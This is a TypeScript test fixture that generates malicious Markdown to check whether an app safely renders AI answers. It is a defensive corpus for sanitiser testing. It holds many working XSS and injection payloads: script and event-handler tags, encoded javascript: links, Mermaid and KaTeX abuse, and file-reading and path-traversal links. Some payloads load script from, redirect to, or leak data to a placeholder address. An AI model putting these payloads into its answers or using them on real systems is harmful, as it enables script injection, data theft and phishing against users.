/** Answers that want to run, load or hide something in the window that draws them, by what they use. They would report to `address`. */
export function dangerousMarkdown(address: string): ReadonlyMap<string, string> {
  const groups = {
    html: html(address),
    links: links(address),
    pictures: pictures(address),
    diagrams: diagrams(address),
  }
  const all = Object.entries({ ...groups, formulas, definitions, odd })
  return new Map(
    all.map(([name, vectors]) => [name, [`These use ${name}.`, ...vectors, `No more ${name}.`].join('\n\n')]),
  )
}

const html = (address: string) => [
  '<script>alert("html-1")</script>',
  '<ScRiPt src="' + address + 'a.js"></sCrIpT>',
  '<img src=x onerror=alert("html-2")>',
  '<svg onload=alert("html-3")><animate onbegin=alert("html-4") attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<iframe src="${address}frame"></iframe>`,
  '<details open ontoggle=alert("html-5")>x</details>',
  '<a href="javascript:alert(\'html-6\')">click</a>',
  '<form action="javascript:alert(1)"><button>send</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("html-7")>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert("html-8")>-->',
  '<base href="' + address + '">',
  '<meta http-equiv="refresh" content="0;url=' + address + '">',
  '<link rel=stylesheet href="' + address + 'a.css">',
  '<style>@import "' + address + 'b.css"; * { background: url(' + address + 'c) }</style>',
  '<input autofocus onfocus=alert("html-9")>',
  '<video><source onerror=alert("html-10")></video>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
  '<template><script>alert(1)</script></template>',
]

const links = (address: string) => [
  '[a](javascript:alert("link-1"))',
  '[b](JaVaScRiPt:alert(1))',
  '[c](java\tscript:alert(1))',
  '[d](&#106;avascript:alert(1))',
  '[e](javascript&colon;alert(1))',
  '[f](vbscript:msgbox(1))',
  '[g](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[h](file:///etc/passwd)',
  '[i](hermes-app://window/../../etc/passwd)',
  '[j](hermes://open?folder=/)',
  '[k](\u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  `[https://bank.example](${address}phish)`,
  '[m](smb://host/share)',
  '[n](<javascript:alert(1)> "title" )',
  '[o](x" onmouseover="alert\\(1\\))',
  'www.example.org/"onmouseover="alert(1)',
]

const pictures = (address: string) => [
  `![pixel](${address}pixel.png)`,
  `![](${address}secret?leak=1)`,
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  '![x"onerror="alert(1)](x)',
  `[![a](${address}b)](javascript:alert(1))`,
]

const diagrams = (address: string) => [
  '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(\'mermaid-1\')>"] --> B\n  click A "javascript:alert(1)"\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "* { background: url(${address}d) }"}}%%\ngraph TD\n  A --> B\n  click B call alert()\n\`\`\``,
  '```mermaid\nsequenceDiagram\n  A->>B: <script>alert("mermaid-2")</script>\n```',
  '```html\n<script>alert("code-1")</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
]

const formulas = [
  '$$\\href{javascript:alert("math-1")}{x}$$',
  '$$\\url{javascript:alert(1)}$$',
  '$$\\includegraphics{http://127.0.0.1:9/x}$$',
  '$$\\htmlData{onclick=alert(1)}{x}$$',
  '$$\\def\\a{\\a\\a}\\a$$',
]

/** A definition makes the app read an answer as one piece. */
const definitions = ['[l]: javascript:alert(1)\n\n[l]', '[^1]\n\n[^1]: <img src=x onerror=alert(1)>', '[l][l] ![l][l]']

const odd = [
  '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  `${'> '.repeat(2_000)}deep`,
  '*a **a '.repeat(500),
  `${'['.repeat(1_000)}${']('.repeat(200)}`,
  '\u202Etxt.exe\u202C \u200B\u2066hidden\u2069 \u001B[31mred',
  '- [x] <input type=checkbox onclick=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
]
